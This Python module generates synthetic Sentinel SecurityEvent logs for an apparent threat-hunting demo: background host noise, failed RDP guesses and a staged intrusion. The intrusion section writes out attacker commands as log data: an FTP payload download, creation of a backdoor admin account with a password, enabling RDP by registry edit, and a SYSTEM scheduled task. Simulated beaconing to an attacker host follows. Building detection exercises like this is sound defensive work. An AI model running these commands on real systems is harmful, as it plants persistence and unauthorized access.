"""The Windows host's evidence: Microsoft Sentinel's SecurityEvent table exported as JSON
lines (windows/SecurityEvent.jsonl), the way the shared all_events.jsonl looks: the
common columns, the flattened EventData columns, and EventData itself as XML text with
the event namespace and CRLF line breaks. Process and logon ids are hex text (0x1f4),
as Windows writes them.

No EVTX file is written: win_events reads both, and an EVTX writer (binary XML,
templates, chunk checksums) would be a second, untested implementation of the format
inside a demo script. The export is what a Sentinel investigation has anyway.
"""
import json
import os
import time

from . import story as S

ACTIVITY = {
    4624: "An account was successfully logged on.",
    4625: "An account failed to log on.",
    4634: "An account was logged off.",
    4647: "User initiated logoff.",
    4657: "A registry value was modified.",
    4672: "Special privileges assigned to new logon.",
    4688: "A new process has been created.",
    4698: "A scheduled task was created.",
    4720: "A user account was created.",
    4732: "A member was added to a security-enabled local group.",
}
TASK = {4624: 12544, 4625: 12544, 4634: 12545, 4647: 12545, 4657: 12801, 4672: 12548, 4688: 13312, 4698: 12804,
        4720: 13824, 4732: 13826}
SYSTEM_SID = "S-1-5-18"
MACHINE_ACCOUNT = f"{S.WIN_HOST}$"
DOMAIN_SID = "S-1-5-21-2839478512-3719346121-1582917663"
IAN_SID = f"{DOMAIN_SID}-1004"
NEW_SID = f"{DOMAIN_SID}-1010"


def iso(t):
    ms = int(round(t * 1000))
    s, ms = divmod(ms, 1000)
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(s)) + f".{ms:03d}Z"


def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


class Events:
    def __init__(self, rng):
        self.rows = []
        self.rng = rng

    def add(self, t, event_id, data, account=None):
        """One SecurityEvent row: the common columns, EventData as XML, and the same
        fields flattened, as Sentinel stores them."""
        ns = "http://schemas.microsoft.com/win/2004/08/events/event"
        xml = f'<EventData xmlns="{ns}">\r\n' + "".join(
            f'  <Data Name="{k}">{xml_escape(str(v))}</Data>\r\n' for k, v in data.items()) + "</EventData>"
        row = {
            "TenantId": S.TENANT,
            "TimeGenerated": iso(t),
            "SourceSystem": "OpsManager",
            "Account": account or f"{data.get('SubjectDomainName', 'WORKGROUP')}\\{data.get('SubjectUserName', MACHINE_ACCOUNT)}",
            "AccountType": "Machine" if (account or "").endswith("$") or "SubjectUserName" not in data
                           or data.get("SubjectUserName", "").endswith("$") else "User",
            "Computer": S.WIN_HOST,
            "EventSourceName": "Microsoft-Windows-Security-Auditing",
            "Channel": "Security",
            "Task": TASK[event_id],
            "Level": "8" if event_id != 4625 else "16",
            "EventData": xml,
            "EventID": event_id,
            "Activity": f"{event_id} - {ACTIVITY[event_id]}",
        }
        row.update({k: str(v) for k, v in data.items()})
        row.update({"TimeCollected": iso(t + 11.3), "Type": "SecurityEvent",
                    "_ResourceId": "/subscriptions/40dcc8bf-0478-4f3b-b275-ed0a94f2c013/resourcegroups/"
                                   f"asihuntomsworkspacerg/providers/microsoft.compute/virtualmachines/{S.WIN_HOST.lower()}"})
        self.rows.append((t, len(self.rows), row))

    def process(self, t, pid, ppid, image, cmdline, parent_image, user=MACHINE_ACCOUNT, domain="WORKGROUP",
                sid=SYSTEM_SID, logon_id=0x3E7, elevation="%%1936", label="S-1-16-16384"):
        self.add(t, 4688, {
            "SubjectUserSid": sid, "SubjectUserName": user, "SubjectDomainName": domain,
            "SubjectLogonId": hex(logon_id), "NewProcessId": hex(pid), "NewProcessName": image,
            "TokenElevationType": elevation, "ProcessId": hex(ppid), "CommandLine": cmdline,
            "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
            "ParentProcessName": parent_image, "MandatoryLabel": label,
        })


def background(ev, rng, pid, flows):
    """The host's own activity: the monitoring agent's scripts every minute (each with a
    console host), WMI providers, service logons and a few failed RDP guesses from the
    internet."""
    monitoring, svchost_dcom, services = 0x1A2C, 0x2C4, 0x26C
    mon_image = r"C:\Program Files\Microsoft Monitoring Agent\Agent\MonitoringHost.exe"
    t = S.T_START + 12.4
    while t < S.T_END:
        p = pid()
        ev.process(t, p, monitoring, r"C:\Windows\System32\cscript.exe",
                   '"C:\\Windows\\system32\\cscript.exe" /nologo "MonitorKnowledgeDiscovery.vbs"', mon_image)
        ev.process(t + 0.016, pid(), p, r"C:\Windows\System32\conhost.exe",
                   r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", r"C:\Windows\System32\cscript.exe")
        t += 60 + rng.uniform(-0.3, 0.3)
    t = S.T_START + 95.1
    while t < S.T_END:
        ev.process(t, pid(), svchost_dcom, r"C:\Windows\System32\wbem\WmiPrvSE.exe",
                   r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", r"C:\Windows\System32\svchost.exe")
        t += 240 + rng.uniform(-20, 20)
    t = S.T_START + 300.7
    while t < S.T_END:  # service logons, with their special privileges
        lid = 0x3E7
        ev.add(t, 4624, {
            "SubjectUserSid": SYSTEM_SID, "SubjectUserName": MACHINE_ACCOUNT, "SubjectDomainName": "WORKGROUP",
            "SubjectLogonId": "0x3e7", "TargetUserSid": SYSTEM_SID, "TargetUserName": "SYSTEM",
            "TargetDomainName": "NT AUTHORITY", "TargetLogonId": hex(lid), "LogonType": 5,
            "LogonProcessName": "Advapi  ", "AuthenticationPackageName": "Negotiate", "WorkstationName": "-",
            "LogonGuid": "{00000000-0000-0000-0000-000000000000}", "ProcessId": hex(services),
            "ProcessName": r"C:\Windows\System32\services.exe", "IpAddress": "-", "IpPort": "-",
            "ImpersonationLevel": "%%1833"})
        ev.add(t + 0.001, 4672, {"SubjectUserSid": SYSTEM_SID, "SubjectUserName": "SYSTEM",
                                 "SubjectDomainName": "NT AUTHORITY", "SubjectLogonId": "0x3e7",
                                 "PrivilegeList": "SeAssignPrimaryTokenPrivilege\r\n\t\t\tSeTcbPrivilege"},
               account="NT AUTHORITY\\SYSTEM")
        t += 600 + rng.uniform(-30, 30)
    guessers = ["185.153.196.230", "45.227.255.206", "92.63.197.153"]
    t = S.T_START + 2000
    while t < S.T_END:
        user = rng.choice(["ADMINISTRATOR", "admin", "user", "test", "administrator"])
        guesser = rng.choice(guessers)
        flows.add(t - 0.6, guesser, S.WIN_PRIVATE_IP, 3389, duration=1.4, bytes_out=3100, bytes_in=4200)
        ev.add(t, 4625, {
            "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
            "TargetUserSid": "S-1-0-0", "TargetUserName": user, "TargetDomainName": "", "Status": "0xc000006d",
            "FailureReason": "%%2313", "SubStatus": "0xc0000064" if user != "ADMINISTRATOR" else "0xc000006a",
            "LogonType": 3, "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM",
            "WorkstationName": "-", "ProcessId": "0x0", "ProcessName": "-", "IpAddress": guesser,
            "IpPort": "0"}, account=f"\\{user}")
        t += rng.uniform(300, 1500)


def attack(ev, rng, pid, flows):
    """ian's RDP logon from 13.67.35.176 and the attack script it ran; the scheduled task
    then starts c:\\pagefile.exe as SYSTEM."""
    t = S.RDP_LOGON_TIME
    lid = S.RDP_LOGON_ID
    ian = {"user": S.WIN_USER, "domain": S.WIN_HOST, "sid": IAN_SID, "logon_id": lid, "elevation": "%%1937",
           "label": "S-1-16-12288"}
    ev.add(t, 4624, {
        "SubjectUserSid": SYSTEM_SID, "SubjectUserName": MACHINE_ACCOUNT, "SubjectDomainName": "WORKGROUP",
        "SubjectLogonId": "0x3e7", "TargetUserSid": IAN_SID, "TargetUserName": S.WIN_USER,
        "TargetDomainName": S.WIN_HOST, "TargetLogonId": hex(lid), "LogonType": 10, "LogonProcessName": "User32 ",
        "AuthenticationPackageName": "Negotiate", "WorkstationName": S.WIN_HOST,
        "LogonGuid": "{00000000-0000-0000-0000-000000000000}", "ProcessId": "0x1e8",
        "ProcessName": r"C:\Windows\System32\svchost.exe", "IpAddress": S.RDP_SOURCE, "IpPort": "50223",
        "ImpersonationLevel": "%%1833", "ElevatedToken": "%%1842"}, account=f"{S.WIN_HOST}\\{S.WIN_USER}")
    flows.add(t - 4.2, S.RDP_SOURCE, S.WIN_PRIVATE_IP, 3389, duration=913.4, bytes_out=2140512, bytes_in=31744200,
              sport=50223)
    winlogon, userinit, explorer, cmd = 0x1F60, pid(), pid(), pid()
    sys32 = "C:\\Windows\\System32\\"
    ev.process(t + 2.1, userinit, winlogon, sys32 + "userinit.exe", sys32 + "userinit.exe", sys32 + "winlogon.exe",
               **ian)
    ev.process(t + 2.6, explorer, userinit, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE",
               sys32 + "userinit.exe", **ian)
    ev.process(t + 52.0, cmd, explorer, sys32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ',
               r"C:\Windows\explorer.exe", **ian)
    steps = [
        (80.3, "ftp.exe", f"ftp  -s:{S.FTP_SCRIPT}", None),
        (150.8, "net.exe", f"net  user {S.NEW_ACCOUNT} Pa55w0rd!1 /add", f"C:\\Windows\\system32\\net1  user {S.NEW_ACCOUNT} Pa55w0rd!1 /add"),
        (175.2, "net.exe", f"net  localgroup administrators {S.NEW_ACCOUNT} /add",
         f"C:\\Windows\\system32\\net1  localgroup administrators {S.NEW_ACCOUNT} /add"),
        (250.6, "reg.exe", 'reg  add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections '
                           "/t REG_DWORD /d 0 /f", None),
        (300.1, "schtasks.exe", f'schtasks  /create /tn "Windows Pagefile" /tr {S.PAGEFILE} /sc onstart /ru SYSTEM /f',
         None),
        (330.4, "schtasks.exe", 'schtasks  /run /tn "Windows Pagefile"', None),
    ]
    for dt, image, cmdline, child in steps:
        p = pid()
        ev.process(t + dt, p, cmd, sys32 + image, cmdline, sys32 + "cmd.exe", **ian)
        if image == "ftp.exe":  # the control connection, then a passive-mode download
            flows.add(t + dt + 0.3, S.WIN_PRIVATE_IP, S.ATTACKER, 21, duration=21.5, bytes_out=912, bytes_in=1530)
            flows.add(t + dt + 2.1, S.WIN_PRIVATE_IP, S.ATTACKER, 50021, duration=6.2, bytes_out=310,
                      bytes_in=241664)
        if child:
            ev.process(t + dt + 0.012, pid(), p, sys32 + "net1.exe", child, sys32 + "net.exe", **ian)
        subject = {"SubjectUserSid": IAN_SID, "SubjectUserName": S.WIN_USER, "SubjectDomainName": S.WIN_HOST,
                   "SubjectLogonId": hex(lid)}
        if "user " in cmdline:
            ev.add(t + dt + 0.03, 4720, {"TargetUserName": S.NEW_ACCOUNT, "TargetDomainName": S.WIN_HOST,
                                         "TargetSid": NEW_SID, **subject, "PrivilegeList": "-",
                                         "SamAccountName": S.NEW_ACCOUNT, "DisplayName": "%%1793",
                                         "UserPrincipalName": "-", "PrimaryGroupId": "513",
                                         "UserAccountControl": "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084"},
                   account=f"{S.WIN_HOST}\\{S.WIN_USER}")
        if "localgroup" in cmdline:
            ev.add(t + dt + 0.03, 4732, {"MemberName": "-", "MemberSid": NEW_SID, "TargetUserName": "Administrators",
                                         "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544", **subject,
                                         "PrivilegeList": "-"}, account=f"{S.WIN_HOST}\\{S.WIN_USER}")
        if image == "reg.exe":
            ev.add(t + dt + 0.02, 4657, {**subject, "ObjectName": "\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Control\\"
                                                                  "Terminal Server",
                                         "ObjectValueName": "fDenyTSConnections", "HandleId": "0x1b4",
                                         "OperationType": "%%1905", "OldValueType": "%%1876", "OldValue": "1",
                                         "NewValueType": "%%1876", "NewValue": "0", "ProcessId": hex(p),
                                         "ProcessName": sys32 + "reg.exe"}, account=f"{S.WIN_HOST}\\{S.WIN_USER}")
        if "/create" in cmdline:
            ev.add(t + dt + 0.05, 4698, {**subject, "TaskName": "\\Windows Pagefile",
                                         "TaskContent": f"<Task><Actions><Exec><Command>{S.PAGEFILE}</Command></Exec>"
                                                        "</Actions></Task>"}, account=f"{S.WIN_HOST}\\{S.WIN_USER}")
    # The task scheduler's svchost starts the payload as SYSTEM.
    ev.process(t + 331.2, pid(), 0x428, "C:\\pagefile.exe", S.PAGEFILE, sys32 + "svchost.exe")
    beacon = t + 332.0
    while beacon < S.T_END:  # pagefile.exe calls home every ten minutes
        flows.add(beacon, S.WIN_PRIVATE_IP, S.ATTACKER, 443, duration=1.3, bytes_out=870, bytes_in=1460)
        beacon += 600
    ev.add(t + 905.5, 4647, {"TargetUserSid": IAN_SID, "TargetUserName": S.WIN_USER, "TargetDomainName": S.WIN_HOST,
                             "TargetLogonId": hex(lid)}, account=f"{S.WIN_HOST}\\{S.WIN_USER}")
    ev.add(t + 907.9, 4634, {"TargetUserSid": IAN_SID, "TargetUserName": S.WIN_USER, "TargetDomainName": S.WIN_HOST,
                             "TargetLogonId": hex(lid), "LogonType": 10}, account=f"{S.WIN_HOST}\\{S.WIN_USER}")


def write(out, rng, flows):
    ev = Events(rng)
    used = set()

    def pid():
        while True:  # Windows process ids are multiples of 4
            p = 4 * rng.randrange(0x100, 0x1A00)
            if p not in used:
                used.add(p)
                return p

    background(ev, rng, pid, flows)
    attack(ev, rng, pid, flows)
    ev.rows.sort(key=lambda r: (r[0], r[1]))
    d = os.path.join(out, "windows")
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, "SecurityEvent.jsonl"), "w", newline="\n") as f:
        for _, _, row in ev.rows:
            f.write(json.dumps(row, separators=(",", ":"), ensure_ascii=False) + "\n")
